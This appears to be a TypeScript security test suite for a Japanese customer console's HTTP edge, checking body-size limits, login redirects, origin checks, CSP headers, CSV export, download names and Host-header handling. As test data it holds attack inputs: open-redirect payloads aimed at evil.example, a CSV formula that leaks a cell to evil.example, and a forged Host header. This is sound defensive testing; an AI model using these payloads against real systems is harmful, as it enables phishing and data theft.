// Issue 15, the HTTP edge, probed as the attacker did, on the real server (npm start's code path):
// oversized bodies, the redirect after login, formulas in CSV cells, POSTs without an origin,
// the security headers with the script nonce (and the page still hydrating under them), links
// that must not follow the Host header, download names, and the settings the server refuses.
import { spawnSync } from "node:child_process";
import { request as httpRequest } from "node:http";
import SQLite from "better-sqlite3";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DEMO_PASSWORD } from "../../db/demo/seed";
import { launchBrowser, loginAs } from "./support/browser";
import { countRows, startConsole, type ConsoleServer } from "./support/server";
import { sessionCookie } from "./support/session";

let server: ConsoleServer;
let browser: Browser;

beforeAll(async () => {
  server = await startConsole({ APP_NOW: "2026-11-22T10:00:00+09:00" });
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

const count = (table: string) => countRows(server, table);

function write(sql: string, ...params: unknown[]): void {
  const db = new SQLite(server.databasePath);
  try {
    db.pragma("busy_timeout = 5000");
    db.prepare(sql).run(...params);
  } finally {
    db.close();
  }
}

interface RawResponse {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
  ms: number;
}

/**
 * An HTTP request with exactly the given headers (fetch would not send a forged Host), whose body
 * is written in `chunk`s until `total` bytes or until the server answers, whichever comes first.
 */
function raw(
  baseUrl: string,
  options: {
    method?: string;
    path: string;
    headers?: Record<string, string>;
    body?: string;
    chunk?: Buffer;
    total?: number;
  },
): Promise<RawResponse> {
  const url = new URL(options.path, baseUrl);
  const started = Date.now();
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = httpRequest(
      {
        host: url.hostname,
        port: url.port,
        path: url.pathname + url.search,
        method: options.method ?? "POST",
        headers: options.headers,
      },
      (res) => {
        answered = true;
        let body = "";
        res.setEncoding("utf8");
        res.on("data", (c: string) => (body += c));
        res.on("end", () =>
          resolve({
            status: res.statusCode!,
            headers: res.headers,
            body,
            ms: Date.now() - started,
          }),
        );
        res.on("error", reject);
      },
    );
    // The server closing the connection mid-upload is expected once it has answered.
    req.on("error", (error) => {
      if (!answered) reject(error);
    });
    if (options.chunk && options.total) {
      // One chunk at a time, as a slow uplink sends it: the answer is read before the next write.
      let sent = 0;
      const pump = () => {
        if (answered) return;
        if (sent >= options.total!) return void req.end();
        sent += options.chunk!.length;
        req.write(options.chunk, () => setTimeout(pump, 2));
      };
      pump();
    } else {
      req.end(options.body);
    }
  });
}

const form = { "Content-Type": "application/x-www-form-urlencoded" };

/** The one-time token of the customer page's 「アカウントを追加する」 form, as a browser would send it. */
async function inviteToken(baseUrl: string, customerId: number, cookie: string): Promise<string> {
  const html = await (
    await fetch(`${baseUrl}/customers/${customerId}`, { headers: { Cookie: cookie } })
  ).text();
  const invite = html.split("<form").find((f) => f.includes('name="intent" value="invite"'));
  const token = invite && /name="_formToken" value="([^"]+)"/.exec(invite)?.[1];
  if (!token) throw new Error("no invite form on the customer page");
  return token;
}

describe("request size (item 1)", () => {
  it("refuses a 100 MB login at once from its Content-Length, and records nothing", async () => {
    const before = { attempts: count("login_attempts"), audit: count("audit_log") };
    const total = 100 * 1024 * 1024;
    const response = await raw(server.url, {
      path: "/login",
      headers: { ...form, Origin: server.url, "Content-Length": String(total) },
      chunk: Buffer.from(`email=${"a".repeat(64 * 1024)}`),
      total,
    });
    expect(response.status).toBe(413);
    expect(response.body).toBe("送信されたデータが大きすぎます（上限 64KB）。");
    expect(response.ms).toBeLessThan(2000);
    expect({ attempts: count("login_attempts"), audit: count("audit_log") }).toEqual(before);
  });

  it("counts a chunked body without Content-Length and stops it at the first byte over 64 KB", async () => {
    const before = count("login_attempts");
    const response = await raw(server.url, {
      path: "/login",
      headers: { ...form, Origin: server.url, "Transfer-Encoding": "chunked" },
      chunk: Buffer.from("a".repeat(16 * 1024)),
      total: 8 * 1024 * 1024,
    });
    expect(response.status).toBe(413);
    expect(response.body).toBe("送信されたデータが大きすぎます（上限 64KB）。");
    expect(count("login_attempts")).toBe(before);
  });

  it("still takes an ordinary chunked form", async () => {
    const response = await raw(server.url, {
      path: "/login",
      headers: { ...form, Origin: server.url, "Transfer-Encoding": "chunked" },
      body: new URLSearchParams({
        email: "admin@demo.example",
        password: DEMO_PASSWORD,
      }).toString(),
    });
    expect(response.status).toBe(302);
    expect(response.headers.location).toBe("/home");
  });

  it("refuses an e-mail over 254 characters with a field error, before any attempt or audit row", async () => {
    const before = { attempts: count("login_attempts"), audit: count("audit_log") };
    const page = await browser.newPage();
    await page.goto(`${server.url}/login`);
    await page.getByLabel("メールアドレス").fill(`${"a".repeat(250)}@x.jp`);
    await page.getByLabel("パスワード").fill("whatever-password");
    await page.getByRole("button", { name: "ログイン", exact: true }).click();
    await page
      .locator(".field-error")
      .filter({ hasText: "メールアドレスは254文字以内で入力してください" })
      .waitFor();
    await page.close();
    expect({ attempts: count("login_attempts"), audit: count("audit_log") }).toEqual(before);
  });
});

describe("text limits of the forms (item 1)", () => {
  it("refuses an over-long contact name and operator note with Japanese messages, writing nothing", async () => {
    const db = new SQLite(server.databasePath, { readonly: true });
    const contractId = (
      db.prepare("select id from contracts where ref = 'K-1001'").get() as { id: number }
    ).id;
    db.close();
    const before = {
      changes: count("contract_changes"),
      suspensions: count("suspensions"),
      audit: count("audit_log"),
    };

    const customer = await sessionCookie(server.url, "customer@demo.example");
    const change = await fetch(`${server.url}/contracts/${contractId}/changes`, {
      method: "POST",
      redirect: "manual",
      headers: { ...form, Origin: server.url, Cookie: customer },
      body: new URLSearchParams({
        intent: "request",
        kind: "contact",
        name: "名".repeat(201),
        address: "大阪府大阪市港区築港2-1-10",
        phone: "06-6571-0001",
        email: "it@minato.example",
        effectiveDate: "2026-12-01",
      }),
    });
    expect(change.status).toBe(400);
    expect(await change.text()).toContain("名義は200文字以内で入力してください");

    const operator = await sessionCookie(server.url, "operator@demo.example");
    const suspend = await fetch(`${server.url}/contracts/${contractId}/admin`, {
      method: "POST",
      redirect: "manual",
      headers: { ...form, Origin: server.url, Cookie: operator },
      body: new URLSearchParams({
        intent: "suspend",
        reason: "non_payment",
        note: "メ".repeat(2001),
        startsOn: "2026-11-23",
        endsOn: "",
      }),
    });
    expect(suspend.status).toBe(400);
    expect(await suspend.text()).toContain("メモは2,000文字以内で入力してください");
    // Two logins are audited; nothing else is written.
    expect({
      changes: count("contract_changes"),
      suspensions: count("suspensions"),
      audit: count("audit_log"),
    }).toEqual({ ...before, audit: before.audit + 2 });
  });
});

describe("redirect after login (item 3)", () => {
  for (const target of [
    "%2F%09%2Fevil.example%2Fphish",
    "%2F.%2F%5Cevil.example%2Fphish",
    "%2F%0A%2Fx",
    "%2F%0D%0A%2Fx",
    "%2F%E3%80%80%2Fx",
  ]) {
    it(`stays on the console for redirectTo=${target}`, async () => {
      const response = await fetch(`${server.url}/login`, {
        method: "POST",
        redirect: "manual",
        headers: { ...form, Origin: server.url },
        body: `email=admin%40demo.example&password=${encodeURIComponent(DEMO_PASSWORD)}&redirectTo=${target}`,
      });
      expect(response.status).toBe(302);
      const location = response.headers.get("location")!;
      expect(new URL(location, server.url).origin).toBe(server.url);
      expect(location).toMatch(/^\/(?!\/)/);
    });
  }
});

describe("origin of POSTs (item 5)", () => {
  it("refuses a signed-in POST that names no origin, and one from another site", async () => {
    const cookie = await sessionCookie(server.url);
    const before = count("audit_log");
    const bare = await fetch(`${server.url}/logout`, {
      method: "POST",
      redirect: "manual",
      headers: { ...form, Cookie: cookie },
      body: "",
    });
    expect(bare.status).toBe(403);
    expect(await bare.text()).toBe(
      "送信元を確認できないため、受け付けられません。ページを開き直してから送信してください。",
    );
    const foreign = await fetch(`${server.url}/logout`, {
      method: "POST",
      redirect: "manual",
      headers: { ...form, Cookie: cookie, Origin: "http://evil.example" },
      body: "",
    });
    expect(foreign.status).toBe(403);
    expect(count("audit_log")).toBe(before);
    // The same POST from the console's own page goes through.
    const own = await fetch(`${server.url}/logout`, {
      method: "POST",
      redirect: "manual",
      headers: { ...form, Cookie: cookie, Origin: server.url },
      body: "",
    });
    expect(own.status).toBe(302);
  });

  it("lets a POST without a session cookie reach the app (the login form of a privacy-minded browser)", async () => {
    const response = await fetch(`${server.url}/login`, {
      method: "POST",
      redirect: "manual",
      headers: form,
      body: new URLSearchParams({ email: "admin@demo.example", password: DEMO_PASSWORD }),
    });
    expect(response.status).toBe(302);
  });
});

describe("headers (item 6)", () => {
  it("sends a strict CSP whose nonce is on every script, and the pages still hydrate and navigate", async () => {
    const page = await browser.newPage();
    const problems: string[] = [];
    page.on("console", (m) => {
      if (m.type() === "error") problems.push(m.text());
    });
    page.on("pageerror", (e) => problems.push(e.message));
    const response = await page.goto(`${server.url}/login`);
    const headers = response!.headers();
    const nonce = /script-src 'self' 'nonce-([A-Za-z0-9+/=]{24})'/.exec(
      headers["content-security-policy"],
    )?.[1];
    expect(nonce).toBeDefined();
    expect(headers["content-security-policy"]).toBe(
      `default-src 'self'; script-src 'self' 'nonce-${nonce}'; object-src 'none'; frame-ancestors 'none'; base-uri 'self'; form-action 'self'; img-src 'self' data:; style-src 'self' 'unsafe-inline'`,
    );
    expect(headers["cache-control"]).toBe("no-store");
    expect(headers["strict-transport-security"]).toBeUndefined();
    const html = await response!.text();
    const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)([^>]*)>/g)].map((m) => m[1]);
    expect(inline.length).toBeGreaterThan(0);
    for (const attributes of inline) expect(attributes).toContain(`nonce="${nonce}"`);
    // A second page gets another nonce.
    const again = await fetch(`${server.url}/login`);
    expect(again.headers.get("content-security-policy")).not.toContain(nonce);

    // With JavaScript running under the policy: log in, then a client-side navigation.
    await loginAs(page, server.url, "admin@demo.example");
    await page.getByRole("link", { name: "契約", exact: true }).first().click();
    await page.waitForURL(`${server.url}/contracts`);
    await page.getByRole("heading", { level: 1 }).waitFor();
    expect(
      await page.evaluate(
        () => typeof (window as unknown as { __remixContext?: unknown }).__remixContext,
      ),
    ).toBe("object");
    expect(problems).toEqual([]);

    const asset =
      /<script[^>]+src="(\/build\/[^"]+\.js)"/.exec(html)?.[1] ??
      /href="(\/build\/[^"]+\.js)"/.exec(html)?.[1];
    expect(asset).toBeDefined();
    const built = await fetch(`${server.url}${asset}`);
    expect(built.status).toBe(200);
    expect(built.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
    await page.close();
  });

  it("keeps signed-in data out of caches", async () => {
    const cookie = await sessionCookie(server.url);
    for (const path of ["/home", "/contracts.data", "/portfolio/csv"]) {
      const response = await fetch(`${server.url}${path}`, { headers: { Cookie: cookie } });
      expect(response.status, path).toBe(200);
      expect(response.headers.get("cache-control"), path).toMatch(/^(private, )?no-store$/);
    }
  });
});

describe("CSV formulas (item 4)", () => {
  it("writes a customer name that is a formula as text in the portfolio CSV", async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"x")';
    write("update customers set name = ? where ref = 'C1'", name);
    const cookie = await sessionCookie(server.url);
    const response = await fetch(`${server.url}/portfolio/csv`, { headers: { Cookie: cookie } });
    expect(response.status).toBe(200);
    const csv = await response.text();
    const row = csv.split("\r\n").find((line) => line.startsWith("K-1001,"))!;
    expect(row).toMatch(/^K-1001,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""x""\)",/);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    // The amounts stay numbers.
    expect(
      row
        .split(",")
        .slice(-5)
        .some((cell) => /^\d+$/.test(cell)),
    ).toBe(true);
    // Issue 17 item 5: the Excel download says the status in Japanese.
    expect(csv.split("\r\n")[0]).toContain("状態");
    expect(row.split(",")).toContain("利用中");
    expect(row.split(",")).not.toContain("active");
    write("update customers set name = '株式会社みなと製作所' where ref = 'C1'");
  });
});

describe("download names (item 8)", () => {
  it("keeps a quote in a contract ref out of the report's Content-Disposition", async () => {
    const db = new SQLite(server.databasePath);
    db.pragma("busy_timeout = 5000");
    const contractId = (
      db.prepare("select id from contracts where ref = 'K-1001'").get() as { id: number }
    ).id;
    db.prepare("update contracts set ref = ? where id = ?").run('K-"1001', contractId);
    const reportId = Number(
      db
        .prepare(
          "insert into threat_reports (contract_id, period_month, kind, pdf, created_at) values (?, '2026-10', 'on_demand', ?, ?)",
        )
        .run(contractId, Buffer.from("%PDF-1.4\n%%EOF\n"), "2026-11-22T01:00:00.000Z")
        .lastInsertRowid,
    );
    db.close();
    try {
      const cookie = await sessionCookie(server.url);
      const response = await fetch(`${server.url}/reports/${reportId}/pdf`, {
        headers: { Cookie: cookie },
      });
      expect(response.status).toBe(200);
      expect(response.headers.get("content-disposition")).toBe(
        "attachment; filename=\"_______K-_1001_2026-10.pdf\"; filename*=UTF-8''%E8%84%85%E5%A8%81%E3%83%AC%E3%83%9D%E3%83%BC%E3%83%88_K-%221001_2026-10.pdf",
      );
    } finally {
      write("update contracts set ref = 'K-1001' where id = ?", contractId);
    }
  });
});

describe("links in mails (item 7)", () => {
  it("builds the invitation link from the configured address, not from a forged Host", async () => {
    const cookie = await sessionCookie(server.url);
    const db = new SQLite(server.databasePath, { readonly: true });
    const customerId = (
      db.prepare("select id from customers where ref = 'C1'").get() as { id: number }
    ).id;
    db.close();
    const to = "forged-host@minato.example";
    const response = await raw(server.url, {
      path: `/customers/${customerId}`,
      headers: { ...form, Host: "evil.example", Origin: "http://evil.example", Cookie: cookie },
      body: new URLSearchParams({
        intent: "invite",
        displayName: "偽ホスト 試験",
        email: to,
        _formToken: await inviteToken(server.url, customerId, cookie),
      }).toString(),
    });
    expect(response.status).toBe(302);
    const check = new SQLite(server.databasePath, { readonly: true });
    const mail = check.prepare("select body_text from outbox where to_address = ?").get(to) as {
      body_text: string;
    };
    check.close();
    expect(mail.body_text).toContain(`${server.url}/invitation/`);
    expect(mail.body_text).not.toContain("evil.example");
  });

  it("refuses to start off loopback without CONSOLE_URL, and with a bad TRUST_PROXY", () => {
    const run = (env: Record<string, string>) =>
      spawnSync("node_modules/.bin/tsx", ["scripts/start.ts"], {
        env: {
          ...process.env,
          PORT: "0",
          DATABASE_URL: "file:/nonexistent/never-opened.db",
          CONSOLE_URL: "",
          TRUST_PROXY: "",
          ...env,
        },
        encoding: "utf8",
        timeout: 30_000,
      });
    const open = run({ HOST: "0.0.0.0" });
    expect(open.status).toBe(1);
    expect(open.stderr).toMatch(/^CONSOLE_URL: HOST=0\.0\.0\.0 で起動するには/);
    const proxy = run({ HOST: "127.0.0.1", TRUST_PROXY: "yes" });
    expect(proxy.status).toBe(1);
    expect(proxy.stderr).toMatch(/^TRUST_PROXY: /);
  });
});

describe("behind a TLS proxy", () => {
  let proxied: ConsoleServer;
  beforeAll(async () => {
    proxied = await startConsole({
      APP_NOW: "2026-11-22T10:00:00+09:00",
      CONSOLE_URL: "https://console.example.jp",
      TRUST_PROXY: "1",
    });
  });
  afterAll(() => proxied?.stop());

  it("sends HSTS, mails links to CONSOLE_URL and audits the address the proxy saw", async () => {
    const login = await raw(proxied.url, {
      path: "/login",
      headers: { ...form, Origin: proxied.url, "X-Forwarded-For": "198.51.100.1, 203.0.113.50" },
      body: new URLSearchParams({
        email: "admin@demo.example",
        password: DEMO_PASSWORD,
      }).toString(),
    });
    expect(login.status).toBe(302);
    expect(login.headers["strict-transport-security"]).toBe("max-age=31536000; includeSubDomains");
    const db = new SQLite(proxied.databasePath, { readonly: true });
    const audit = db
      .prepare("select ip from audit_log where action = 'login' order by id desc")
      .get() as { ip: string };
    const customerId = (
      db.prepare("select id from customers where ref = 'C1'").get() as { id: number }
    ).id;
    db.close();
    expect(audit.ip).toBe("203.0.113.50");

    const cookie = String(login.headers["set-cookie"]).split(";")[0];
    const to = "proxied@minato.example";
    const invite = await fetch(`${proxied.url}/customers/${customerId}`, {
      method: "POST",
      redirect: "manual",
      headers: { ...form, Origin: proxied.url, Cookie: cookie },
      body: new URLSearchParams({
        intent: "invite",
        displayName: "プロキシ 試験",
        email: to,
        _formToken: await inviteToken(proxied.url, customerId, cookie),
      }),
    });
    expect(invite.status).toBe(302);
    const check = new SQLite(proxied.databasePath, { readonly: true });
    const mail = check.prepare("select body_text from outbox where to_address = ?").get(to) as {
      body_text: string;
    };
    check.close();
    expect(mail.body_text).toMatch(
      /^https:\/\/console\.example\.jp\/invitation\/[A-Za-z0-9_-]{43}$/m,
    );
    expect(mail.body_text).not.toContain(proxied.url);
  });
});
